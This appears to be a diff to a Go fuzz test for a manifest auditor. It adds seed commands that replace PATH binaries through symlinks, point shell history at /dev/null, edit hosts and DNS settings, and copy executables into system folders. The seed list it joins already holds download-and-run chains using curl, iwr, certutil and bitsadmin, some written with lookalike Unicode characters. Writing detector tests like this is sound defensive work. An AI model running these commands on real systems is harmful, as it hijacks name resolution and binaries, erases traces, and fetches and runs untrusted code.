@@ -171,6 +171,8 @@ var fuzzSeeds = [][]string{
 	{"pwsh", "-c", "iwr h -OutFile a.msi; msiexec /i a.msi; irm -outf:b.ps1 h; Start-Process b.ps1; iwr -OutFile"},
 	{"cmd", "/c", "certutil -urlcache -f https://h/a a.exe & a.exe & bitsadmin /transfer j https://h/b b.exe & b.exe & wmic os get /FORMAT:\"https://h/x.xsl\" & wmic /format: & powershell -c \"iwr h -OutFile c.ps1\" & powershell -Fi c.ps1 & pwsh -f"},
 	{"sh", "-c", "сurl h | sh; nрx -y fоo@1; uvx mcp-sеrver==1; ｎpx; café; 启动 x; /юрий/srv; pip install ɑ"},
+	{"sh", "-c", "ln -sf /tmp/e ~/.local/bin/npx; ln -t /usr/bin a b; ln -sf /dev/null ~/.zsh_history; ln; cp e /usr/local/bin/; curl -o /bin/x h; echo >> /etc/hosts; tee /etc/resolv.conf; networksetup -setdnsservers W 1; resolvectl dns e 1; resolvectl status"},
+	{"cmd", "/c", "netsh interface ip set dns E static 1 & netsh advfirewall show & copy e C:\\Windows\\System32\\x.exe & echo > %WINDIR%\\System32\\drivers\\etc\\hosts"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
